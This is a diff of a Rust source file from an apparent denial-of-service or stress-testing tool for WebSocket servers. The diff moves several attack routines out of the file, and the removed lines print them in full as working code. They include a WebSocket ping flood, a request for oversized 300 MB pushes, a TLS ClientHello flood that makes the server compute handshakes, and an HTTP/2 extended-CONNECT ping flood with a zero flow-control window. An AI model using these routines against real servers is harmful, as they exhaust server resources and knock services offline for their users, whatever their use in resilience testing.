@@ -3,22 +3,21 @@
 //!
 //! What an attacker meets is not judged: a server may well end its connection, and it comes again.
 
-use std::io::{ErrorKind, Read, Write};
-use std::net::{Shutdown, SocketAddr, TcpStream};
+mod hello;
+mod websocket;
+mod window;
+
+use std::io::{Read, Write};
+use std::net::{Shutdown, TcpStream};
 use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
-use std::sync::{Arc, Mutex, PoisonError};
+use std::sync::{Mutex, MutexGuard, PoisonError};
 use std::thread;
 use std::time::{Duration, Instant};
 
 use anyhow::{Context, Result, bail, ensure};
-use bytes::Bytes;
-use h2::ext::Protocol;
-use http::{Method, Request};
-use rustls::crypto::ring;
-use rustls::{ClientConfig, ClientConnection, RootCertStore};
 
-use crate::args::{Attack, Server, Weapon};
-use crate::frame::{self, Header};
+use crate::args::{Attack, Server, Timing, Weapon};
+use crate::frame;
 use crate::handshake;
 use crate::meter::{Figures, Meter};
 use crate::report::{AttackReport, LoadReport};
@@ -27,12 +26,6 @@ use crate::stream::Stream;
 /// From a message to the next one.
 const EVERY: Duration = Duration::from_millis(20);
 const ECHO_SIZE: u32 = 64;
-/// Pings that are handed to the kernel at once.
-const BURST: usize = 2048;
-const READ_BUFFER: usize = 1 << 18;
-const PUSH_SIZE: &[u8] = b"300000000";
-/// Pings in a DATA frame.
-const PINGS_IN_DATA: usize = 1000;
 /// Before an attacker that was thrown out comes again.
 const PAUSE: Duration = Duration::from_millis(10);
 
@@ -116,7 +109,7 @@ impl Echo {
     /// A message that could not be sent in its time, because the one before was not answered, has
     /// waited since then.
     fn measure(&mut self, args: &Attack, over: &AtomicBool) -> Result<Figures> {
-        let timing = crate::args::Timing {
+        let timing = Timing {
             warm: Duration::ZERO,
             ..args.timing
         };
@@ -206,7 +199,7 @@ impl Attackers {
         }
     }
 
-    fn sockets(&self) -> std::sync::MutexGuard<'_, Vec<TcpStream>> {
+    fn sockets(&self) -> MutexGuard<'_, Vec<TcpStream>> {
         self.sockets.lock().unwrap_or_else(PoisonError::into_inner)
     }
 
@@ -257,164 +250,4 @@ impl Attackers {
         sockets.push(stream.try_clone()?);
         Ok(stream)
     }
-
-    fn ping(&self, mut stream: &TcpStream) -> Result<()> {
-        let ping = frame::masked(frame::PING, &[]);
-        let burst = ping.repeat(BURST);
-        let mut bytes = 0;
-        loop {
-            let written = stream.write(&burst[bytes % ping.len()..])?;
-            self.made((bytes % ping.len() + written) / ping.len());
-            bytes += written;
-        }
-    }
-
-    fn read_pushes(&self, mut stream: &TcpStream) -> Result<()> {
-        let request = frame::masked(frame::TEXT, PUSH_SIZE);
-        let mut buffer = vec![0; READ_BUFFER];
-        loop {
-            stream.write_all(&request)?;
-            // The header of a frame of more than 64 KiB.
-            stream.read_exact(&mut buffer[..10])?;
-            let header = Header::parse(&buffer[..10]).context("no frame")?;
-            ensure!(header.len == 10, "a push of {} bytes", header.payload_len);
-            let mut left = header.payload_len;
-            while left > 0 {
-                let room = left.min(buffer.len());
-                let count = stream.read(&mut buffer[..room])?;
-                ensure!(count > 0, "the server closed within a push");
-                let before = left / 1_000_000;
-                left -= count;
-                self.made(before - left / 1_000_000);
-            }
-        }
-    }
-
-    /// All connections at once: that many signatures are to be made in one go.
-    fn hellos(&self) -> Result<()> {
-        let hello = client_hello(self.target.addr)?;
-        let mut sockets = Vec::new();
-        while !self.is_over() {
-            for _ in 0..self.conns {
-                let mut socket = TcpStream::connect(self.target.addr)?;
-                socket.set_read_timeout(Some(Duration::from_secs(1)))?;
-                socket.write_all(&hello)?;
-                sockets.push(socket);
-            }
-            for mut socket in sockets.drain(..) {
-                match socket.read(&mut [0; 1]) {
-                    Ok(1) => self.made(1),
-                    Ok(_) => {}
-                    // The server has ended it, or is busy with others.
-                    Err(error) if is_about_the_server(error.kind()) => {}
-                    Err(error) => return Err(error.into()),
-                }
-            }
-        }
-        Ok(())
-    }
-
-    /// A thread for each connection.
-    fn windows(&self) -> Result<()> {
-        thread::scope(|scope| {
-            let threads: Vec<_> = (0..self.conns)
-                .map(|_| scope.spawn(|| self.window()))
-                .collect();
-            threads
-                .into_iter()
-                .try_for_each(|thread| thread.join().expect("no panic"))
-        })
-    }
-
-    fn window(&self) -> Result<()> {
-        let runtime = tokio::runtime::Builder::new_current_thread()
-            .enable_all()
-            .build()?;
-        runtime.block_on(async {
-            let mut has_attacked = false;
-            while !self.is_over() {
-                match self.ping_without_window(&mut has_attacked).await {
-                    Err(error) if !has_attacked => return Err(error),
-                    _ => tokio::time::sleep(PAUSE).await,
-                }
-            }
-            Ok(())
-        })
-    }
-
-    async fn ping_without_window(&self, has_attacked: &mut bool) -> Result<()> {
-        let socket = tokio::net::TcpStream::connect(self.target.addr).await?;
-        let (mut client, mut connection) = h2::client::Builder::new()
-            .initial_window_size(0)
-            .handshake::<_, Bytes>(socket)
-            .await?;
-        let attack = async {
-            client = client.ready().await?;
-            // Not before the server's SETTINGS have come (RFC8441§3).
-            let deadline = Instant::now() + handshake::OPEN_TIMEOUT;
-            while !client.is_extended_connect_protocol_enabled() {
-                ensure!(
-                    Instant::now() < deadline,
-                    "the server has no extended CONNECT"
-                );
-                tokio::time::sleep(PAUSE).await;
-                ensure!(!self.is_over(), "the server has no extended CONNECT");
-            }
-            let (addr, path) = (self.target.addr, &self.target.path);
-            let mut request = Request::builder()
-                .method(Method::CONNECT)
-                .uri(format!("http://{addr}{path}"))
-                .header("sec-websocket-version", "13")
-                .body(())?;
-            request
-                .extensions_mut()
-                .insert(Protocol::from_static("websocket"));
-            let (response, mut stream) = client.send_request(request, false)?;
-            let status = response.await?.status();
-            ensure!(status == 200, "the handshake was refused: {status}");
-            *has_attacked = true;
-            let ping = frame::masked(frame::PING, &[]);
-            let data = Bytes::from(ping.repeat(PINGS_IN_DATA));
-            loop {
-                stream.reserve_capacity(data.len());
-                while stream.capacity() < data.len() {
-                    let more = std::future::poll_fn(|cx| stream.poll_capacity(cx)).await;
-                    more.context("the stream has ended")??;
-                }
-                stream.send_data(data.clone(), false)?;
-                self.made(PINGS_IN_DATA);
-            }
-        };
-        // The connection does what all its streams need, and it ends with the attack.
-        tokio::select! {
-            result = attack => result,
-            ended = &mut connection => Ok(ended?),
-            () = self.until_over() => Ok(()),
-        }
-    }
-
-    async fn until_over(&self) {
-        while !self.is_over() {
-            tokio::time::sleep(PAUSE).await;
-        }
-    }
-}
-
-fn is_about_the_server(kind: ErrorKind) -> bool {
-    matches!(
-        kind,
-        ErrorKind::ConnectionReset | ErrorKind::WouldBlock | ErrorKind::TimedOut
-    )
-}
-
-/// Always the same: a client can have it ready, and pays nothing for what the server computes.
-fn client_hello(addr: SocketAddr) -> Result<Vec<u8>> {
-    let config = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()))
-        .with_safe_default_protocol_versions()?
-        .with_root_certificates(RootCertStore::empty())
-        .with_no_client_auth();
-    let mut connection = ClientConnection::new(Arc::new(config), addr.ip().into())?;
-    let mut hello = Vec::new();
-    connection.write_tls(&mut hello)?;
-    Ok(hello)
 }
